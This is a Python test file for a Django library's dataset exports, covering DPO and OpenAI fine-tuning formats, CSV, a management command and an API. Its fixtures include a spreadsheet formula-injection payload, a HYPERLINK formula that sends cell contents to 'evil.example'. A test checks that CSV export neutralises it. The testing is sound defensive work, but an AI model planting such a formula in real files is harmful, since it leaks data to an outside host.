"""Dataset exports as training and eval tools load them: Hugging Face ``datasets``, TRL's DPO
format, OpenAI's fine-tuning formats, spreadsheets."""

import csv
import io
import json
import re
import uuid
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

from feedback_loop import exports, record_trace
from feedback_loop.internal.datasets import add_traces, freeze
from feedback_loop.internal.pipeline import process_events
from feedback_loop.models import Dataset, DatasetItem, DatasetKind, FeedbackEvent, Trace

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def edit(project, trace_id, text):
    FeedbackEvent.objects.create(
        project=project,
        event_id=uuid.uuid4(),
        trace_key=trace_id,
        kind="edit",
        text=text,
        timestamp=timezone.now() - timedelta(minutes=1),
    )


@pytest.fixture
def traces(project):
    """Three answers the users corrected; two of them are the same question and fix."""
    record_trace(project, "t1", input="Capital of France?", output="Paris, in Germany.")
    record_trace(project, "t2", input="2 + 2?", output="5")
    record_trace(project, "t3", input="Capital of France?", output="Paris, in Germany.")
    record_trace(project, "t4", input=HYPERLINK_INPUT, output="-1 + 1")
    edit(project, "t1", "Paris, in France.")
    edit(project, "t2", "4")
    edit(project, "t3", "Paris, in France.")
    edit(project, "t4", "@SUM(A1:A9)")
    process_events(FeedbackEvent.objects.values_list("pk", flat=True))
    return Trace.objects.filter(project=project).order_by("key")


HYPERLINK_INPUT = HOSTILE


@pytest.fixture
def preference(project, traces):
    dataset = Dataset.objects.create(project=project, name="DPO set", kind=DatasetKind.PREFERENCE)
    add_traces(dataset, traces.values_list("pk", flat=True))
    return dataset


@pytest.fixture
def regression(project, traces):
    dataset = Dataset.objects.create(project=project, name="Regressions")
    add_traces(dataset, traces.values_list("pk", flat=True))
    return dataset


def export(dataset, fmt, version=None) -> str:
    return "".join(exports.stream(dataset, fmt, version))


def write(tmp_path, dataset, fmt) -> str:
    path = tmp_path / f"out.{fmt}.jsonl"
    path.write_text(export(dataset, fmt), encoding="utf-8")
    return str(path)


def test_items_with_the_same_content_are_stored_and_exported_once(preference, regression):
    # t1 and t3: same input, same answer, same fix.
    assert preference.items.count() == 3
    assert regression.items.count() == 3
    lines = export(preference, "dpo").splitlines()
    assert len(lines) == len(set(lines)) == 3


def test_dpo_export_loads_with_hugging_face_datasets(preference, tmp_path):
    from datasets import load_dataset

    loaded = load_dataset("json", data_files=write(tmp_path, preference, "dpo"), split="train")
    # TRL's conversational form: the prompt as messages, each completion an assistant turn.
    assert loaded.column_names == ["id", "prompt", "chosen", "rejected"]
    rows = [{k: v for k, v in row.items() if k != "id"} for row in loaded]
    assert len(rows) == 3
    assert {
        "prompt": [{"role": "user", "content": "2 + 2?"}],
        "chosen": [{"role": "assistant", "content": "4"}],
        "rejected": [{"role": "assistant", "content": "5"}],
    } in rows
    assert {
        "prompt": [{"role": "user", "content": "Capital of France?"}],
        "chosen": [{"role": "assistant", "content": "Paris, in France."}],
        "rejected": [{"role": "assistant", "content": "Paris, in Germany."}],
    } in rows


def test_jsonl_export_loads_with_hugging_face_datasets(regression, tmp_path):
    from datasets import load_dataset

    loaded = load_dataset("json", data_files=write(tmp_path, regression, "jsonl"), split="train")
    assert set(loaded.column_names) == {
        "id", "input", "messages", "expected_output", "output", "metadata", "source_trace_id",
    }  # fmt: skip
    by_trace = {r["source_trace_id"]: r for r in loaded}
    assert by_trace["t2"]["input"] == "2 + 2?" and by_trace["t2"]["expected_output"] == "4"
    assert by_trace["t2"]["output"] == "5"  # the model's answer, beside the expected one
    assert by_trace["t2"]["metadata"]["trace_id"] == "t2"


def validate_openai_chat(line: dict) -> None:
    """OpenAI's chat fine-tuning format: messages with roles, at least one assistant message
    to learn from, string contents."""
    assert set(line) <= {"messages", "tools", "parallel_tool_calls"}
    messages = line["messages"]
    assert isinstance(messages, list) and messages
    for message in messages:
        assert message["role"] in {"system", "user", "assistant", "tool"}
        assert isinstance(message["content"], str) and message["content"]
    assert messages[-1]["role"] == "assistant"


def validate_openai_preference(line: dict) -> None:
    """OpenAI's preference (DPO) fine-tuning format: an input with messages, and one preferred
    and one non-preferred assistant message."""
    assert set(line) == {"input", "preferred_output", "non_preferred_output"}
    assert set(line["input"]) <= {"messages", "tools", "parallel_tool_calls"}
    for message in line["input"]["messages"]:
        assert message["role"] in {"system", "user", "assistant", "tool"}
        assert isinstance(message["content"], str) and message["content"]
    assert line["input"]["messages"][-1]["role"] == "user"
    for side in ("preferred_output", "non_preferred_output"):
        assert len(line[side]) == 1
        assert line[side][0]["role"] == "assistant"
        assert isinstance(line[side][0]["content"], str) and line[side][0]["content"]
    assert line["preferred_output"] != line["non_preferred_output"]


def test_openai_preference_export_follows_the_documented_format(preference):
    lines = [json.loads(x) for x in export(preference, "openai-preference").splitlines()]
    assert len(lines) == 3
    for line in lines:
        validate_openai_preference(line)
    assert {
        "input": {"messages": [{"role": "user", "content": "2 + 2?"}]},
        "preferred_output": [{"role": "assistant", "content": "4"}],
        "non_preferred_output": [{"role": "assistant", "content": "5"}],
    } in lines


def test_openai_chat_export_follows_the_documented_format_and_skips_items_without_answer(
    project, regression
):
    DatasetItem.objects.create(dataset=regression, input="No answer yet", expected_output="")
    lines = [json.loads(x) for x in export(regression, "openai-chat").splitlines()]
    assert len(lines) == 3  # the item without an expected output is left out
    for line in lines:
        validate_openai_chat(line)
    assert {
        "messages": [
            {"role": "user", "content": "2 + 2?"},
            {"role": "assistant", "content": "4"},
        ]
    } in lines


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(regression):
    text = export(regression, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(exports.CSV_COLUMNS)
    hostile = next(r for r in rows if r["source_trace_id"] == "t4")
    assert hostile["input"] == "'" + HOSTILE
    assert hostile["expected_output"] == "'@SUM(A1:A9)"
    plain = next(r for r in rows if r["source_trace_id"] == "t2")
    assert plain["input"] == "2 + 2?"


@pytest.mark.parametrize(
    ("kind", "fmt", "message"),
    [
        ("regression", "dpo", "dpo needs preference pairs"),
        ("golden", "openai-preference", "openai-preference needs preference pairs"),
        ("preference", "openai-chat", "openai-chat needs (input, expected output) items"),
        ("golden", "xml", "Unknown format 'xml'"),
    ],
)
def test_a_format_that_does_not_fit_the_dataset_is_refused_with_a_reason(
    project, kind, fmt, message
):
    dataset = Dataset.objects.create(project=project, name="D", kind=kind)
    with pytest.raises(exports.ExportError, match=re.escape(message)):
        export(dataset, fmt)


def test_a_frozen_version_exports_the_same_bytes_after_the_dataset_changes(preference):
    version = freeze(preference, note="first")
    assert (version.number, version.item_count) == (1, 3)
    before = export(preference, "dpo", version)
    item = preference.items.first()
    item.chosen = "changed later"
    item.save()
    DatasetItem.objects.create(dataset=preference, input="new", chosen="a", rejected="b")
    assert export(preference, "dpo", version) == before
    assert export(preference, "dpo") != before
    assert freeze(preference).number == 2


def test_the_export_command_writes_a_file_with_a_progress_bar(preference, tmp_path, capsys):
    out = tmp_path / "pairs.jsonl"
    call_command("feedback_loop_export", "DPO set", "--format", "dpo", "--output", str(out))
    err = capsys.readouterr().err
    assert "3/3 items 100%" in err
    assert f"Wrote 3 rows of 3 items to {out}" in err
    assert len(out.read_text().splitlines()) == 3


def test_the_export_command_can_freeze_and_export_a_version(preference, tmp_path, capsys):
    out = tmp_path / "v.jsonl"
    call_command(
        "feedback_loop_export", str(preference.pk), "--format", "jsonl", "--freeze", "-o", str(out)
    )
    assert "Froze 'DPO set' as version 1." in capsys.readouterr().err
    call_command(
        "feedback_loop_export",
        "DPO set",
        "--format",
        "jsonl",
        "--dataset-version",
        "1",
        "-o",
        str(out),
    )
    assert len(out.read_text().splitlines()) == 3


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["nope", "--format", "dpo"], "No dataset 'nope'. Datasets: "),
        (["DPO set", "--format", "openai-chat"], "openai-chat needs (input, expected output)"),
        (
            ["DPO set", "--format", "dpo", "--dataset-version", "7"],
            "has no version 7; it has: none",
        ),
    ],
)
def test_the_export_command_explains_what_is_wrong(preference, args, message):
    with pytest.raises(CommandError, match=re.escape(message)):
        call_command("feedback_loop_export", *args)


# -- the datasets API --------------------------------------------------------------------------


@pytest.fixture
def api(client, secret):
    headers = {"HTTP_AUTHORIZATION": f"Bearer {secret}"}

    def call(method, path, data=None, **params):
        url = f"/feedback/api/v1/{path}"
        if method == "get":
            return client.get(url, params, **headers)
        return client.post(url, data or {}, content_type="application/json", **headers)

    return call


def test_create_fill_freeze_and_export_a_dataset_through_the_api(api, traces):
    created = api("post", "datasets", {"name": "API set", "kind": "preference"})
    assert created.status_code == 201
    pk = created.json()["id"]
    added = api("post", f"datasets/{pk}/traces", {"filters": {"has_edit": True}})
    assert added.json() == {"added": 3}
    again = api("post", f"datasets/{pk}/traces", {"trace_ids": ["t1", "t2"]})
    assert again.json() == {"added": 0}
    frozen = api("post", f"datasets/{pk}/versions", {"note": "for the nightly run"})
    assert frozen.status_code == 201 and frozen.json()["number"] == 1
    listed = api("get", "datasets").json()["results"][0]
    assert (listed["name"], listed["item_count"], listed["versions"][0]["number"]) == (
        "API set",
        3,
        1,
    )

    response = api("get", f"datasets/{pk}/export", format="dpo", version=1)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/jsonl"
    assert response["Content-Disposition"] == 'attachment; filename="api-set-v1.dpo.jsonl"'
    body = b"".join(response.streaming_content).decode()
    chosen = {json.loads(x)["chosen"][0]["content"] for x in body.splitlines()}
    assert chosen >= {"4", "Paris, in France."}


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"format": "openai-chat"}, "openai-chat needs"),
        ({"format": "yaml"}, "is not a valid choice"),
        ({"format": "dpo", "version": 3}, "This dataset has no such version"),
        ({}, "This field is required"),
    ],
)
def test_a_bad_export_request_is_a_400_that_says_why(api, preference, params, message):
    response = api("get", f"datasets/{preference.pk}/export", **params)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_a_bad_filter_or_rule_is_a_400(api, preference):
    response = api("post", f"datasets/{preference.pk}/traces", {"filters": {"colour": "red"}})
    assert response.status_code == 400 and "Unknown filters: colour" in response.content.decode()
    response = api("post", "datasets", {"name": "R", "rule": {"sample_rate": 2}})
    assert response.status_code == 400 and "sample_rate must be" in response.content.decode()


def test_another_projects_dataset_is_not_found(api, preference):
    from feedback_loop.models import Project

    other, _ = Project.create("Other")
    theirs = Dataset.objects.create(project=other, name="Theirs")
    assert api("get", f"datasets/{theirs.pk}/export", format="jsonl").status_code == 404
    assert api("get", f"datasets/{theirs.pk}").status_code == 404


def test_adding_by_a_distinct_filter_and_by_ids_together(api, traces):
    # error_mode makes the filtered queryset DISTINCT; the ids are added beside it, not OR-ed.
    pk = api("post", "datasets", {"name": "Mixed"}).json()["id"]
    response = api(
        "post",
        f"datasets/{pk}/traces",
        {"filters": {"error_mode": "length"}, "trace_ids": ["t2"]},
    )
    assert response.status_code == 200
    assert response.json()["added"] >= 1


def test_the_queue_export_takes_expected_outputs_as_a_dataset_does(admin_client, project):
    # The "Export as JSON Lines" action writes through exports.py: a dismissed review's expected
    # output is no expected output (the user's edit is), as in a regression set.
    from feedback_loop.models import Review, ReviewStatus

    trace = Trace.objects.create(project=project, key="t", input="Q", output="A long answer.")
    Review.objects.create(trace=trace, status=ReviewStatus.DISMISSED, expected_output="Ignore me")
    FeedbackEvent.objects.create(
        project=project, event_id=uuid.uuid4(), trace_key="t", kind="edit", text="Short.",
        timestamp=timezone.now(),
    )  # fmt: skip
    response = admin_client.post(
        "/admin/feedback_loop/trace/?sentiment=all&review=all",
        {"action": "export_jsonl", "_selected_action": [trace.pk]},
    )
    [row] = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    assert row["expected_output"] == "Short." and row["source_trace_id"] == "t"
    assert response["Content-Disposition"] == 'attachment; filename="traces.jsonl"'


@pytest.mark.parametrize(
    ("name", "fmt", "frozen", "expected"),
    [
        ("DPO pairs", "jsonl", False, "dpo-pairs.jsonl"),
        ("Golden", "csv", True, "golden-v1.csv"),
        ("DPO pairs", "dpo", False, "dpo-pairs.dpo.jsonl"),
        ("Regressions", "openai-chat", True, "regressions-v1.openai-chat.jsonl"),
    ],
)
def test_export_file_names_say_the_extension_once(
    project, admin_client, tmp_path, monkeypatch, name, fmt, frozen, expected
):
    kind = DatasetKind.PREFERENCE if fmt == "dpo" else DatasetKind.REGRESSION
    dataset = Dataset.objects.create(project=project, name=name, kind=kind)
    args = [str(dataset.pk), "--format", fmt] + (["--freeze"] if frozen else [])
    monkeypatch.chdir(tmp_path)
    call_command("feedback_loop_export", *args)
    assert [p.name for p in tmp_path.iterdir()] == [expected]
    query = f"format={fmt}&download=1" + ("&version=1" if frozen else "")
    response = admin_client.get(f"/admin/feedback_loop/dataset/{dataset.pk}/export/?{query}")
    assert response["Content-Disposition"] == f'attachment; filename="{expected}"'
